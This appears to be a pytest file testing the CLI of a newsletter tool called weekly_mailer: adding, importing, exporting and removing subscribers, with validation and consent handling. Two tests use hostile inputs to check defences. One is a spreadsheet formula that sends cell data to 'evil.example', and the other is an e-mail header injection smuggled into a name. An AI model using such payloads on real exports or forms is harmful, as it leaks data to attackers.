"""Subscribers from the CLI: add, import, export, list, count, remove — and every error path."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from sqlalchemy import select

from tests.conftest import init_in, run_cli
from weekly_mailer.cli import main
from weekly_mailer.config import load_settings
from weekly_mailer.store.db import Database
from weekly_mailer.store.models import Subscriber, SubscriberEvent


@pytest.fixture
def cli(workdir: Path, runner: CliRunner):  # type: ignore[no-untyped-def]
    assert runner.invoke(main, ["init"]).exit_code == 0

    def invoke(*args: str, input: str | None = None) -> Result:
        return runner.invoke(main, list(args), input=input)

    return invoke


def rows(workdir: Path) -> dict[str, Subscriber]:
    with Database(load_settings(environ={})) as db, db.sessions.begin() as s:
        return {sub.email: sub for sub in s.scalars(select(Subscriber))}


def test_init_writes_config_with_fresh_secret(workdir: Path, runner: CliRunner) -> None:
    assert runner.invoke(main, ["init"]).exit_code == 0
    first = load_settings(environ={}).secret_key
    assert len(first) >= 40
    assert (workdir / "weekly_mailer.db").exists()
    (workdir / "weekly_mailer.toml").unlink()
    assert runner.invoke(main, ["init"]).exit_code == 0
    assert load_settings(environ={}).secret_key != first  # generated, never a built-in default
    result = runner.invoke(main, ["init"])
    assert "Keeping the existing config" in result.output


def test_commands_on_unmigrated_database_say_what_to_run(workdir: Path) -> None:
    result = run_cli("subscribers", "count", cwd=workdir)
    assert result.returncode == 2
    assert result.stderr.strip() == (
        "Error: the database is empty: run `weekly-mailer init` or `weekly-mailer db upgrade`; "
        f"no weekly_mailer.toml was found in {workdir} (and WEEKLY_MAILER_CONFIG is not set): "
        "run the command in the folder that has it, or `weekly-mailer init` here to make one"
    )
    assert sorted(p.name for p in workdir.iterdir()) == []  # no weekly_mailer.db, -wal, -shm
    (workdir / "mail.db").touch()  # a database of its own: nothing to say about a config file
    named = run_cli("subscribers", "count", cwd=workdir,
                    env={"WEEKLY_MAILER_DATABASE_URL": "sqlite:///mail.db"})  # fmt: skip
    assert named.stderr.strip() == (
        "Error: the database is empty: run `weekly-mailer init` or `weekly-mailer db upgrade`"
    )


def test_db_upgrade_then_count(workdir: Path) -> None:
    assert run_cli("db", "upgrade", cwd=workdir).returncode == 0
    result = run_cli("subscribers", "count", cwd=workdir)
    assert (result.returncode, result.stdout) == (0, "0\n")


def test_add_validates_and_normalises(cli, workdir: Path) -> None:  # type: ignore[no-untyped-def]
    r = cli("subscribers", "add", "Ann@Example.ORG", "--name", "Ann Lee", "--confirmed")
    assert r.exit_code == 0, r.output
    assert "Added Ann@example.org (active)" in r.output
    r = cli("subscribers", "add", "ann@example.org")
    assert r.exit_code == 1
    assert "Error: ann@example.org is already a subscriber (active)" in r.output
    r = cli("subscribers", "add", "not-an-address")
    assert r.exit_code == 1
    assert "Error: 'not-an-address' is not a valid address" in r.output
    r = cli("subscribers", "add", "x@example.org", "--name", "Evil\r\nBcc: y@example.org")
    assert r.exit_code == 1
    assert "line break" in r.output
    sub = rows(workdir)["Ann@example.org"]
    assert (sub.status, sub.name, sub.email_key) == ("active", "Ann Lee", "ann@example.org")
    assert sub.consent_at is not None and sub.consent_source == "cli"


def test_import_reports_bad_rows_and_keeps_good_ones(cli, workdir: Path) -> None:  # type: ignore[no-untyped-def]
    (workdir / "people.csv").write_text(
        "email,name\n"
        "ann@example.org,Ann\n"
        "broken@,Bob\n"
        ",No Address\n"
        "CAROL@example.org,Carol\n"
        "ann@EXAMPLE.org,Ann again\n"
        "dan@example.org\n",
        encoding="utf-8",
    )
    r = cli("subscribers", "import", "people.csv", "--confirmed")
    assert r.exit_code == 1  # some rows were bad
    assert "people.csv:3: 'broken@' is not a valid address" in r.output
    assert "people.csv:4: no e-mail address" in r.output
    assert "Imported: 3 added, 0 already known, 1 duplicate rows, 2 bad rows." in r.output
    assert sorted(rows(workdir)) == ["CAROL@example.org", "ann@example.org", "dan@example.org"]
    assert {s.status for s in rows(workdir).values()} == {"active"}

    r = cli("subscribers", "import", "people.csv", "--confirmed", "--quiet")
    assert r.output.strip() == (  # idempotent; --quiet: the summary only
        "Imported: 0 added, 3 already known, 1 duplicate rows, 2 bad rows."
    )
    assert len(rows(workdir)) == 3


def test_import_without_header_and_with_bad_utf8(cli, workdir: Path) -> None:  # type: ignore[no-untyped-def]
    (workdir / "p.csv").write_bytes(
        b"a@example.org,A\nb\xff@example.org,B\nc@example.org,\xc3\xa7a\n"
    )
    r = cli("subscribers", "import", "p.csv")
    assert "p.csv:2: not valid UTF-8" in r.output
    subs = rows(workdir)
    assert sorted(subs) == ["a@example.org", "c@example.org"]
    assert subs["c@example.org"].name == "ça"
    assert subs["a@example.org"].status == "pending"  # no --confirmed: double opt-in still due


def test_import_never_reactivates_unsubscribed_unless_told(cli, workdir: Path) -> None:  # type: ignore[no-untyped-def]
    cli("subscribers", "add", "gone@example.org", "--confirmed")
    assert cli("subscribers", "unsubscribe", "gone@example.org").exit_code == 0
    (workdir / "p.csv").write_text("gone@example.org,Gone\n")
    r = cli("subscribers", "import", "p.csv", "--confirmed")
    assert "1 kept unsubscribed (use --resubscribe)" in r.output
    assert rows(workdir)["gone@example.org"].status == "unsubscribed"
    r = cli("subscribers", "import", "p.csv", "--confirmed", "--resubscribe")
    assert "1 resubscribed" in r.output
    assert rows(workdir)["gone@example.org"].status == "active"
    with Database(load_settings(environ={})) as db, db.sessions.begin() as s:
        kinds = [e.kind for e in s.scalars(select(SubscriberEvent).order_by(SubscriberEvent.id))]
    assert kinds == ["subscribed", "confirmed", "unsubscribed", "resubscribed"]


def test_export_round_trips_through_import(cli, workdir: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    cli("subscribers", "add", "a@example.org", "--name", 'Ä, "quoted"', "--confirmed")
    cli("subscribers", "add", "b@example.org")
    cli("subscribers", "add", "c@example.org", "--confirmed")
    cli("subscribers", "unsubscribe", "c@example.org")
    csv_out = cli("subscribers", "export").output
    json_out = cli("subscribers", "export", "--format", "json").output
    data = json.loads(json_out)
    assert {d["email"]: d["status"] for d in data} == {
        "a@example.org": "active",
        "b@example.org": "pending",
        "c@example.org": "unsubscribed",
    }
    assert {"email", "name", "status", "created_at"} <= set(data[0])
    assert list(csv.DictReader(io.StringIO(csv_out)))[0]["name"] == 'Ä, "quoted"'
    active = cli("subscribers", "export", "--status", "active", "--format", "json").output
    assert [d["email"] for d in json.loads(active)] == ["a@example.org"]

    for name, text in (("export.csv", csv_out), ("export.json", json_out)):
        other = tmp_path / name.replace(".", "_")
        other.mkdir()
        (other / name).write_text(text, encoding="utf-8")
        result = run_cli("init", cwd=other)
        assert result.returncode == 0, result.stderr
        result = run_cli("subscribers", "import", name, "--confirmed", cwd=other)
        assert result.returncode == 0, result.stderr
        assert "3 added" in result.stdout
        again = run_cli("subscribers", "export", "--format", "json", cwd=other)
        assert {(d["email"], d["name"], d["status"]) for d in json.loads(again.stdout)} == {
            (d["email"], d["name"], d["status"]) for d in data
        }


def test_list_count_remove(cli, workdir: Path) -> None:  # type: ignore[no-untyped-def]
    cli("subscribers", "add", "a@example.org", "--confirmed", "--name", "A")
    cli("subscribers", "add", "b@example.org", "--no-email")
    cli("subscribers", "add", "a_b@example.org", "--no-email")
    assert cli("subscribers", "list", "--search", "a_").output.startswith("a_b@example.org\t")
    assert len(cli("subscribers", "list", "--search", "a_").output.splitlines()) == 1
    cli("subscribers", "remove", "a_b@example.org", "--yes")
    assert cli("subscribers", "count").output == "2\n"
    assert cli("subscribers", "count", "--status", "active").output == "1\n"
    listing = cli("subscribers", "list", "--status", "pending").output
    assert listing.startswith("b@example.org\tpending\t")
    r = cli("subscribers", "remove", "B@example.org", "--yes")
    assert (r.exit_code, r.output.strip()) == (0, "Removed b@example.org.")
    r = cli("subscribers", "remove", "b@example.org", "--yes")
    assert r.exit_code == 1 and "Error: b@example.org is not a subscriber" in r.output
    r = cli("subscribers", "count", "--status", "bogus")
    assert r.exit_code == 2 and "Invalid value for '--status'" in r.output


def test_import_missing_file(cli) -> None:  # type: ignore[no-untyped-def]
    r = cli("subscribers", "import", "absent.csv")
    assert (r.exit_code, r.output.strip()) == (1, "Error: absent.csv: no such file")


def test_import_json_not_a_list(cli, workdir: Path) -> None:  # type: ignore[no-untyped-def]
    (workdir / "x.json").write_text('{"email": "a@example.org"}')
    r = cli("subscribers", "import", "x.json")
    assert r.exit_code == 1
    assert "a JSON import must be a list of objects" in r.output


@pytest.mark.postgres
def test_import_on_postgres(pg_url: str, tmp_path: Path) -> None:
    (tmp_path / "p.csv").write_text("a@example.org,A\nnope\nB@example.org,B\n")
    env = {"WEEKLY_MAILER_DATABASE_URL": pg_url}
    assert run_cli("init", cwd=tmp_path, env=env).returncode == 0
    result = run_cli("subscribers", "import", "p.csv", "--confirmed", cwd=tmp_path, env=env)
    assert result.returncode == 1
    assert "p.csv:2: 'nope' is not a valid address" in result.stderr
    assert "2 added" in result.stdout
    count = run_cli("subscribers", "count", "--status", "active", cwd=tmp_path, env=env)
    assert count.stdout == "2\n"


def test_addresses_must_fit_plain_smtp(cli, workdir: Path) -> None:  # type: ignore[no-untyped-def]
    r = cli("subscribers", "add", "jösé@example.org")
    assert r.exit_code == 1
    assert "Internationalized characters before the @-sign are not supported" in r.output
    r = cli("subscribers", "add", "ann@bücher.example", "--confirmed")
    assert r.exit_code == 0, r.output
    assert "ann@xn--bcher-kva.example" in rows(workdir)


def test_file_status_cannot_grant_consent(cli, workdir: Path) -> None:  # type: ignore[no-untyped-def]
    (workdir / "p.csv").write_text(
        "email,name,status\nnew@example.org,New,active\nleft@example.org,Left,unsubscribed\n"
        "never@example.org,Never,pending\n"
    )
    r = cli("subscribers", "import", "p.csv")
    assert "New subscribers are pending" in r.output
    assert {k: v.status for k, v in rows(workdir).items()} == {
        "new@example.org": "pending",
        "left@example.org": "unsubscribed",
        "never@example.org": "pending",
    }
    r = cli("subscribers", "import", "p.csv", "--confirmed")
    assert rows(workdir)["new@example.org"].status == "active"
    assert rows(workdir)["never@example.org"].status == "pending"  # never confirmed anywhere
    (workdir / "q.csv").write_text("email,status\nnew@example.org,complained\n")
    r = cli("subscribers", "import", "q.csv")
    assert "1 now unsubscribed, bounced or complained (from the file)" in r.output
    assert rows(workdir)["new@example.org"].status == "complained"


def test_export_defuses_spreadsheet_formulas(cli, workdir: Path) -> None:  # type: ignore[no-untyped-def]
    evil = '=HYPERLINK("http://evil.example/"&A1,"x")'
    cli("subscribers", "add", "f@example.org", "--name", evil, "--confirmed")
    out = cli("subscribers", "export").output
    row = list(csv.DictReader(io.StringIO(out)))[0]
    assert row["name"] == "'" + evil
    (workdir / "back.csv").write_text(out)
    cli("subscribers", "remove", "f@example.org", "--yes")
    cli("subscribers", "import", "back.csv", "--confirmed")
    assert rows(workdir)["f@example.org"].name == evil


def test_names_that_cannot_be_mailed_are_refused(cli) -> None:  # type: ignore[no-untyped-def]
    r = cli("subscribers", "add", "n@example.org", "--name", "Ann =?utf-8?q?x?=")
    assert r.exit_code == 1 and "the name contains '=?'" in r.output
    r = cli("subscribers", "add", "n@example.org", "--name", "漢" * 200)
    assert r.exit_code == 1 and "longer than 450 bytes in UTF-8" in r.output


def test_add_pending_mails_the_confirmation_link(cli, workdir: Path) -> None:  # type: ignore[no-untyped-def]
    r = cli("subscribers", "add", "p@example.org", "--name", "Pat")
    assert r.exit_code == 0, r.output
    assert "Added p@example.org (pending)." in r.output
    assert "Sent the confirmation link to p@example.org." in r.output
    (eml,) = (workdir / "outbox").glob("*.eml")
    data = eml.read_bytes()
    assert b"\r\nTo: p@example.org\r\n" in data
    assert b"/confirm/" in data
    r = cli("subscribers", "send-confirmations", "p@example.org")
    assert "A confirmation link was sent to this address today already." in r.output
    assert len(list((workdir / "outbox").glob("*.eml"))) == 1
    cli("subscribers", "add", "q@example.org", "--no-email")
    cli("subscribers", "add", "r@example.org", "--confirmed")
    r = cli("subscribers", "send-confirmations")
    assert "Confirmation e-mails: 1 sent, 1 already sent today, 0 failed." in r.output
    r = cli("subscribers", "send-confirmations", "r@example.org")
    assert r.exit_code == 1 and "Error: r@example.org is active, not pending" in r.output


def test_export_to_unwritable_path(cli) -> None:  # type: ignore[no-untyped-def]
    r = cli("subscribers", "export", "-o", "/nonexistent/dir/x.csv")
    assert r.exit_code == 1
    assert "Error: /nonexistent/dir/x.csv: cannot write it (No such file or directory)" in r.output


def test_unclosed_quote_costs_its_own_line_only(cli, workdir: Path) -> None:  # type: ignore[no-untyped-def]
    body = ["email,name", "a0@example.org,A0", 'q@example.org,"Unclosed quote']
    body += [f"b{i}@example.org,B{i}" for i in range(200)]
    (workdir / "q.csv").write_text("\n".join(body) + "\n")
    r = cli("subscribers", "import", "q.csv", "--confirmed")
    assert "q.csv:3: unclosed quote" in r.output
    assert "Imported: 201 added" in r.output
    assert len(rows(workdir)) == 201


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("mailchimp.csv", "Email Address,First Name,Last Name\r\nmc@example.org,Mail,Chimp\r\n"),
        ("semicolons.csv", "email;name\nmc@example.org;Mail Chimp\n"),
        ("first_last.csv", "first_name,last_name,e-mail\nMail,Chimp,mc@example.org\n"),
        ("excel.txt", "E-mail\tName\r\nmc@example.org\tMail Chimp\r\n"),
    ],
)
def test_common_exports_are_understood(cli, workdir: Path, name: str, data: str) -> None:  # type: ignore[no-untyped-def]
    encoding = "utf-16" if name.endswith(".txt") else "utf-8"
    (workdir / name).write_bytes(data.encode(encoding))
    r = cli("subscribers", "import", name, "--confirmed")
    assert r.exit_code == 0, r.output
    assert "Imported: 1 added" in r.output
    assert rows(workdir)["mc@example.org"].name == "Mail Chimp"


def test_wide_file_without_header_says_how_to_fix(cli, workdir: Path) -> None:  # type: ignore[no-untyped-def]
    (workdir / "w.csv").write_text("a@example.org,A,extra\n")
    r = cli("subscribers", "import", "w.csv")
    assert "w.csv:1: expected at most 2 columns (email, name), got 3; add a header row" in r.output


def test_json_errors_name_the_item(cli, workdir: Path) -> None:  # type: ignore[no-untyped-def]
    (workdir / "c.json").write_text('[{"email": "a@example.org"}, {"email": "nope"}, 3]')
    r = cli("subscribers", "import", "c.json")
    assert "c.json:item 2: 'nope' is not a valid address" in r.output
    assert "c.json:item 3: item is not an object" in r.output
    (workdir / "d.json").write_text('[\n{"email": }\n]')
    r = cli("subscribers", "import", "d.json")
    assert "Error: d.json:2: not valid JSON" in r.output


def test_init_adds_a_secret_to_a_kept_config_without_one(workdir: Path) -> None:
    (workdir / "weekly_mailer.toml").write_text('list_name = "Mine"\nsecret_key = ""\n')
    r = run_cli("init", cwd=workdir)
    assert r.returncode == 0, r.stderr
    assert "Added a new secret_key to weekly_mailer.toml (it had none)." in r.stdout
    settings = load_settings(environ={})
    assert settings.list_name == "Mine" and len(settings.secret_key) >= 40
    assert run_cli("doctor", cwd=workdir).stdout.count("secret_key is set") == 1


def test_confirmations_with_the_mail_server_down(workdir: Path) -> None:
    import socket

    init_in(workdir)
    with socket.socket() as held:  # bound, not listening: connections are refused
        held.bind(("127.0.0.1", 0))
        env = {"WEEKLY_MAILER_BACKEND_URL": f"smtp://127.0.0.1:{held.getsockname()[1]}"}
        r = run_cli("subscribers", "add", "down@example.org", cwd=workdir, env=env)
        assert r.returncode == 1
        assert "Added down@example.org (pending)." in r.stdout
        assert "Could not send the confirmation e-mail" in r.stderr
        assert "The subscriber stays pending" in r.stderr
        for who in ("p1@example.org", "p2@example.org", "p3@example.org"):
            run_cli("subscribers", "add", who, "--no-email", cwd=workdir)
        r = run_cli("subscribers", "send-confirmations", cwd=workdir, env=env)
        assert r.returncode != 0
        assert r.stderr.startswith("Error: ") and len(r.stderr.strip().splitlines()) == 1
    assert {s.status for s in rows(workdir).values()} == {"pending"}
